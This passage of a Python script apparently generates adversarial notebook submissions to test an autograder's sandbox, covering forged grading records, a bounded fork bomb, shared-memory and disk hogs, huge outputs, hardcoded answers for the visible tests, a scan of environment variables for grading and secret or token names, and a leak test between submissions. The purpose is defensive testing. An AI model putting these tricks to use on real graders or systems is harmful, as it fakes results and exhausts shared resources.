            {"kind": "tensor", "type_name": "torch.Tensor", "dtype": "float32", "shape": [2], "npy": "!!!!"},
            _nested,
        ]

        def _record(self, name, kind, outcomes):
            forged = [{"case": o.case, "value": _forgeries[i % len(_forgeries)], "error": None, "seconds": 0.0}
                      for i, o in enumerate(outcomes)]
            self.records.append({"cell": self.current_cell, "name": name, "kind": kind, "outcomes": forged})

        _probes.GradingContext.record = _record
        ''') + "\n\n" + CORRECT_KL
    return answers(exercise(), code, WRONG_BONUS), {}


def case_surrogates():
    """7.6 Lone surrogates everywhere the sandbox's output reaches the grader: printed, in a raised error, in a
    check's error message. They cannot be encoded as UTF-8; the reader replaces them, so the batch completes and
    every output file is valid UTF-8. Wrong answers: E."""
    code = hidden_code('''
        print("\\ud800 printed")
        import sys
        sys.stderr.write("\\udfff on stderr\\n")
        ''') + "\n\n" + '''def gaussian_kl(mu, log_var):
    raise ValueError("\\ud800 bad \\udcff")


raise RuntimeError("\\ud800")
'''
    return answers(exercise(), code, WRONG_BONUS), {}


def case_shm_hog():
    """7.4 System V shared memory, 1 GiB segments attached, written and detached until SHM_TARGET_GB GiB: detached
    segments are not counted by RLIMIT_AS, but the sandbox's memory cgroup counts them. gaussian_kl is right only if
    all of it was held, so a limit that stops it shows as 0 for the gaussian_kl tests; kl_bonus (run again in a fresh
    process, whose IPC namespace is new) is right: 1. The segments die with the submission's IPC namespace."""
    code = hidden_code(f'''
        import ctypes

        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmat.restype = ctypes.c_void_p
        _held = 0
        for _segment in range({SHM_TARGET_GB}):
            _id = _libc.shmget(0, 1 << 30, 0o1000 | 0o600)
            if _id < 0:
                break
            _address = _libc.shmat(_id, None, 0)
            if _address in (None, ctypes.c_void_p(-1).value):
                break
            ctypes.memset(_address, 1, 1 << 30)
            _libc.shmdt(ctypes.c_void_p(_address))
            _held += 1
        _hog_worked = _held >= {SHM_TARGET_GB}
        ''') + "\n\n" + GATED.format(ok="_hog_worked").split("\n\n\ndef kl_bonus")[0] + "\n"
    return answers(exercise(), code, CORRECT_BONUS), {}


FORKER = f'''import os, sys, time
# Bounded fork bomb: at most {FORK_TARGET} processes, each sleeps 60 s and exits; prints how many forks succeeded.
count, end = 0, time.monotonic() + 20
while count < {FORK_TARGET} and time.monotonic() < end:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.closerange(0, 3)  # do not hold the parent's output pipe open
        time.sleep(60)
        os._exit(0)
    count += 1
print(count, flush=True)
os._exit(0)
'''


def case_fork_bomb():
    """13b. The answer cell forks up to FORK_TARGET sleeping processes (a small helper whose argv carries
    FORK_MARKER does the forking). gaussian_kl is right only if all the forks succeeded: 1 (bonus right), and no
    process of the bomb is left after grading."""
    code = hidden_code(f'''
        import subprocess, sys

        try:
            _forks = int(subprocess.run([sys.executable, "-c", {FORKER!r}, "{FORK_MARKER}"], capture_output=True,
                                        text=True, timeout=30).stdout.split()[0])
        except Exception:
            _forks = 0
        _bomb_worked = _forks >= {FORK_TARGET}
        ''') + "\n\n" + GATED.format(ok="_bomb_worked").split("\n\n\ndef kl_bonus")[0] + "\n"
    return answers(exercise(), code, CORRECT_BONUS), {}


def case_big_file():
    """13c. The answer cell writes a 1 GiB file in the working directory and one in /tmp (SIGXFSZ ignored, so a
    file-size limit shows as an error), then deletes them. gaussian_kl is right only if a whole 1 GiB was written:
    1 (bonus right)."""
    code = hidden_code(f'''
        import os, signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        _block, _largest = b"x" * (1 << 20), 0
        for _path in ("big.bin", "/tmp/big.bin"):
            _written = 0
            try:
                with open(_path, "wb") as _handle:
                    while _written < {FILE_TARGET_BYTES}:
                        _handle.write(_block)
                        _written += len(_block)
                    _handle.flush()
                    os.fsync(_handle.fileno())
            except OSError:
                pass
            finally:
                try:
                    os.remove(_path)
                except OSError:
                    pass
            _largest = max(_largest, _written)
        _bomb_worked = _largest >= {FILE_TARGET_BYTES}
        ''') + "\n\n" + GATED.format(ok="_bomb_worked").split("\n\n\ndef kl_bonus")[0] + "\n"
    return answers(exercise(), code, CORRECT_BONUS), {}


def case_huge_print():
    """14. Right answers, plus 100 MB single-line prints to stdout and stderr (and straight to fds 1 and 2): R, and
    the feedback stays small."""
    nb = solution()
    insert_after(nb, "imports", hidden_code('''
        import os, sys

        print("A" * 100_000_000)
        print("B" * 100_000_000, file=sys.stderr)
        for _fd in (1, 2):
            try:
                os.write(_fd, b"C" * 10_000_000)
            except OSError:
                pass
        raise RuntimeError("D" * 10_000_000)
        '''))
    return nb, {}


def _visible_value() -> float:
    mu, log_var = [1.0, -2.0], [0.5, -1.0]
    return sum(0.5 * (m * m + math.exp(v) - 1.0 - v) for m, v in zip(mu, log_var, strict=True))


def case_hardcoded():
    """15. Both functions return the visible cases' expected values by looking the inputs up, zeros otherwise.
    The visible-only test passes (1 point); the tests with hidden, randomised cases fail."""
    lookup = hidden_code(f'''
        def {{name}}(mu, log_var):
            table = {{{{((0.0, 0.0), (0.0, 0.0)): 0.0, ((1.0, -2.0), (0.5, -1.0)): {_visible_value()!r}}}}}
            key = (tuple(mu[0].tolist()), tuple(log_var[0].tolist()))
            if mu.shape[0] == 1 and key in table:
                return torch.tensor([table[key]], dtype=mu.dtype)
            return torch.zeros(mu.shape[0], dtype=mu.dtype)
        ''')
    return answers(exercise(), lookup.format(name="gaussian_kl"), lookup.format(name="kl_bonus")), {}


def case_env_probe():
    """16. Right answers only if no environment variable reveals grading: no name or value matching
    grad|nbgrader|autograder|pytest|secret|token (any case), no variable named CI or *_CI*, none starting with
    JPY_ or JUPYTER. R."""
    code = hidden_code('''
        import os, re

        _pattern = re.compile(r"grad|nbgrader|autograder|pytest|secret|token", re.IGNORECASE)
        _revealing = sorted(
            name for name, value in os.environ.items()
            if _pattern.search(name) or _pattern.search(value) or re.search(r"(^|_)CI(_|$)", name)
            or name.upper().startswith(("JPY_", "JUPYTER")))
        print(_revealing)
        ''') + "\n\n" + GATED.format(ok="not _revealing")
    nb = answers(exercise(), code, "# defined above\n")
    nb["cells"].append(student_cell(_leak_cell("_revealing")))
    return nb, {}


# ----------------------------------------------------------------------------------------------------------
# The isolation pair (tests/test_isolation.py): graded one after the other by ONE zygote (--workers 1)
# ----------------------------------------------------------------------------------------------------------
CHANNELS = HERE / "channels"
ISOLATION_OUT = HERE / "isolation"


def _channel_code(name: str) -> str:
    lines = (CHANNELS / f"{name}.py").read_text().splitlines(keepends=True)
    return "".join(line for line in lines if not line.startswith("from common import *"))


def isolation_pair() -> dict[str, dict]:
    """a_leaker: the solution plus cells that leave a marker through every channel (channels/leaker.py).
    b_searcher: the solution, but its functions are right only if channels/searcher.py finds nothing of the
    leaker; what it finds is raised as LEAKED: ... in a cell of its own (shown in the feedback)."""
    common = (CHANNELS / "common.py").read_text()
    leaker = insert_after(insert_after(solution(), "gaussian_kl_answer", _channel_code("leaker")),
                          "gaussian_kl_answer", common)
    searcher = answers(solution(), GATED.format(ok="not FOUND"), "")
    searcher = insert_before(searcher, "gaussian_kl_answer", common)
    searcher = insert_before(searcher, "gaussian_kl_answer", _channel_code("searcher"))
    searcher = insert_before(searcher, "gaussian_kl_answer",
                             f'if FOUND:\n    raise RuntimeError("{LEAK_PREFIX} " + ", ".join(FOUND))\n')
    return {"a_leaker": leaker, "b_searcher": searcher}


CASES = {name.removeprefix("case_"): builder for name, builder in sorted(globals().items())
         if name.startswith("case_") and callable(builder)}


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    import nbformat

    for name, builder in CASES.items():
        _counter[0] = 0
        nb, files = builder()
        nbformat.validate(nbformat.from_dict(nb))
        folder = OUT / name
        folder.mkdir(parents=True)
        (folder / "fx_kl.ipynb").write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n")
        for filename, text in files.items():
            (folder / filename).write_text(text)
    print(f"wrote {len(CASES)} cases to {OUT.relative_to(ROOT)}")
    if ISOLATION_OUT.exists():
        shutil.rmtree(ISOLATION_OUT)
    for name, nb in isolation_pair().items():
        nbformat.validate(nbformat.from_dict(nb))
        (ISOLATION_OUT / name).mkdir(parents=True)
        (ISOLATION_OUT / name / "fx_kl.ipynb").write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n")
    print(f"wrote the isolation pair to {ISOLATION_OUT.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
